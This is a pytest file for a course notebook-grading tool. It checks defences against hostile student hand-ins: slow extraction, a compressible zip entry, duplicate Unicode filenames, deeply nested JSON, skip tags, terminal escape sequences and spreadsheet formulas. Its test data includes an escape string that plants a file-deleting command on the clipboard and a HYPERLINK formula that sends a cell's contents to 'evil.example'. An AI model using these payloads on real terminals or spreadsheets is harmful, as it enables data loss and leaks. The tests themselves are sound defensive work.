"""Sandbox, round two: hostile inputs that reached the host before the sandbox (ingest, the
notebook's JSON, AST extraction) or after it (text on the instructor's terminal). Each test
reproduces an attack from an otherwise correct hand-in and fails without its protection."""
from __future__ import annotations

import io
import json
import threading
import unicodedata
import zipfile
from pathlib import Path

import nbformat
import numpy as np
import pytest
import yaml

from conftest import NUMPY_MODEL, SOFTMAX, notebook, submission
from grader.checks import extract_functions
from grader.grade import grade_submission
from grader.ingest import ingest

HEAD = "import numpy as np"


# --- item 2: host CPU through extraction -----------------------------------------------------
def _heavy_notebook(cells: int) -> nbformat.NotebookNode:
    """`cells` cells of 4,000 one-line statements each, then softmax: quadratic extraction took
    about a minute per such cell (under a global lock)."""
    filler = "".join(f"v{i} = {i}\n" for i in range(4000))
    return notebook(HEAD, *[filler] * cells, SOFTMAX)


def test_extraction_of_thousands_of_statements_neither_stalls_nor_blocks_a_classmate():
    heavy, light = _heavy_notebook(3), notebook(HEAD, SOFTMAX)
    result = {}
    attacker = threading.Thread(target=lambda: result.update(a=extract_functions(heavy, ["softmax"])))
    attacker.start()
    attacker.join(0.3)  # the attacker is under way
    classmate = extract_functions(light, ["softmax"])
    attacker_was_running = attacker.is_alive()
    attacker.join(120)
    assert classmate.found == ["softmax"]
    assert attacker_was_running, "the classmate waited for the whole hostile notebook"
    # linear work: the attacker's own function is still found within the time budget
    assert result["a"].found == ["softmax"], result["a"].notes[-1:]


def test_extraction_has_a_size_bound_and_a_time_budget():
    big = notebook(HEAD, "x = 1\n" * 40_000, SOFTMAX)  # 240,000 characters in one cell
    ex = extract_functions(big, ["softmax"])
    assert ex.found == ["softmax"] and any("skipped, 240,000 characters" in n for n in ex.notes)
    ex = extract_functions(_heavy_notebook(3), ["softmax"], budget_s=0.0)
    assert ex.missing == ["softmax"] and any("ran out of time" in n for n in ex.notes)


# --- item 6: one student refuses the whole class ---------------------------------------------
def _zip(path: Path, entries: list[tuple[str, bytes, tuple]]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data, when in entries:
            z.writestr(zipfile.ZipInfo(name, when), data, zipfile.ZIP_DEFLATED)
    return path


def test_a_compressible_file_or_nfc_nfd_twins_affect_only_their_student(tmp_path):
    nb = nbformat.writes(notebook(HEAD, SOFTMAX)).encode()
    buf = io.BytesIO()
    np.save(buf, np.zeros(1 << 20))  # 8 MiB of zeros: a ratio of about 1,000
    nfc = unicodedata.normalize("NFC", "datos_señal.npy")
    nfd = unicodedata.normalize("NFD", nfc)
    t1, t2 = (2026, 3, 30, 10, 0, 0), (2026, 3, 30, 11, 0, 0)
    z = _zip(tmp_path / "download.zip", [
        ("Ana Ceros_101_assignsubmission_file/mnist_cnn.ipynb", nb, t1),
        ("Ana Ceros_101_assignsubmission_file/zeros.npy", buf.getvalue(), t1),
        ("Bea Normal_102_assignsubmission_file/mnist_cnn.ipynb", nb, t1),
        ("Carla Mac_103_assignsubmission_file/mnist_cnn.ipynb", nb, t1),
        (f"Carla Mac_103_assignsubmission_file/{nfd}", b"old", t1),
        (f"Carla Mac_103_assignsubmission_file/{nfc}", b"new", t2),
    ])
    rep = ingest(z, "mnist_cnn", tmp_path / "work")
    subs = {s.participant_id: s for s in rep.submissions}
    assert sorted(subs) == ["101", "102", "103"]
    ana, bea, carla = subs["101"], subs["102"], subs["103"]
    assert ana.notebook is not None and "zeros.npy" not in ana.files
    assert ana.flags == ["files_skipped"] and any("compression ratio" in n for n in ana.notes)
    assert bea.flags == [] and bea.notebook is not None
    assert carla.flags == ["files_skipped"] and carla.files == sorted(["mnist_cnn.ipynb", nfc])
    assert carla.paths[nfc].read_bytes() == b"new"  # the later timestamp wins
    assert any("appears twice" in n for n in carla.notes)


# --- item 7: misclassified failures and steering tags ----------------------------------------
def test_metadata_nested_thousands_deep_is_an_invalid_notebook(tmp_path, make_ctx):
    nb = json.loads(nbformat.writes(notebook(HEAD, SOFTMAX, NUMPY_MODEL)))
    nb["metadata"]["deep"] = "DEEP"
    deep = '{"a": ' * 5000 + "{}" + "}" * 5000  # json.dumps itself cannot write it
    text = json.dumps(nb).replace('"DEEP"', deep)
    res = grade_submission(submission(tmp_path, text), make_ctx())
    assert res.status == "invalid", res.message
    assert "anidados" in res.message and "Error interno" not in res.message


@pytest.mark.sandbox
def test_no_tag_a_notebook_carries_makes_the_rerun_skip_a_cell(tmp_path, make_ctx):
    nb = notebook(HEAD, SOFTMAX, NUMPY_MODEL)
    nb.cells[-1].metadata["tags"] = ["__grader_never_skip__", "skip-execution"]
    res = grade_submission(submission(tmp_path, nb), make_ctx())
    assert res.status == "graded", res.message  # the tagged cell ran: `model` exists
    assert "accuracy" in res.metrics


# --- item 5: terminal injection --------------------------------------------------------------
EVIL = "\x1b]0;PWNED-TITLE\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\x1b[1A[bold]"


def _small_rubric_yaml(path: Path) -> Path:
    path.write_text(yaml.safe_dump({
        "assignment": "mnist_cnn", "max_grade": 10,
        "limits": {"timeout_s": 60, "cell_timeout_s": 30, "unit_timeout_s": 30, "memory_mb": 1024},
        "data": {"keras_datasets": {"mnist.npz": "standin"}, "hidden_test": "standin"},
        "checks": [{"id": "executed", "kind": "executed_notebook", "points": 1},
                   {"id": "softmax", "kind": "unit_test", "function": "softmax", "points": 4},
                   {"id": "accuracy", "kind": "accuracy", "points": 5, "threshold": 0.9,
                    "partial_from": 0.5}]}))
    return path


@pytest.mark.sandbox
def test_escape_sequences_and_markup_from_students_never_reach_the_terminal(tmp_path, capsys):
    from grader.cli import main

    def nb(module: str) -> bytes:
        cell = f"raise ModuleNotFoundError({('No module named ' + repr(module))!r})"
        return nbformat.writes(notebook(HEAD, cell, SOFTMAX, NUMPY_MODEL)).encode()

    z = _zip(tmp_path / "download.zip", [
        (f"Eva {EVIL}_301_assignsubmission_file/mnist_cnn.ipynb", nb(EVIL), (2026, 3, 30, 10, 0, 0)),
        ("Flor [red]_302_assignsubmission_file/mnist_cnn.ipynb", nb("[/]"), (2026, 3, 30, 10, 0, 0))])
    rc = main(["grade", "mnist_cnn", str(z), "--rubric", str(_small_rubric_yaml(tmp_path / "r.yaml")),
               "--out", str(tmp_path / "out"), "--workers", "1", "--allow-standin"])
    out, err = capsys.readouterr()
    assert rc == 0, err[-2000:]
    assert "\x1b]" not in out + err and "\x1b[2J" not in out + err and "\x07" not in out + err
    assert "302" in out and "[red]" in out  # the summary is there, the name shown literally
    assert "missing_module:[/]" in out
    rows = [json.loads(x) for x in (tmp_path / "out" / "mnist_cnn" / "results.jsonl").read_text().splitlines()]
    for row in rows:
        flags = [f for f in row["flags"] if f.startswith("missing_module:")]
        assert flags and not any(c in "".join(flags) + row["message"] for c in "\x1b\x07")


# --- item 8: a Full name that a spreadsheet would run as a formula ---------------------------
def test_formula_names_are_neutralised_only_in_the_column_moodle_ignores(tmp_path):
    from grader.export.worksheet_io import fill, read_worksheet

    demo = Path(__file__).resolve().parent.parent / "submissions/demo/mnist_cnn.worksheet.csv"
    text = demo.read_bytes().decode("utf-8")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Ver nota")'
    hostile = text.replace('"José Núñez"', '"' + evil.replace('"', '""') + '"', 1)
    hostile = hostile.replace('"María O\'Connor"', '@SUM(1+1)', 1)  # no space: Moodle leaves it unquoted
    path = tmp_path / "ws.csv"
    path.write_bytes(hostile.encode("utf-8"))
    out = fill(read_worksheet(path), {})
    # exactly the two name cells changed: an apostrophe first, nothing else anywhere
    assert out == hostile.replace('"=HYPERLINK', "\"'=HYPERLINK", 1).replace(',@SUM', ",'@SUM", 1)
    back = read_worksheet(tmp_path / "ws.csv")
    assert [r.participant_id for r in back.rows][:2] == ["4518203", "4518217"]
    assert fill(read_worksheet(demo), {}).encode("utf-8") == demo.read_bytes()  # normal names: untouched
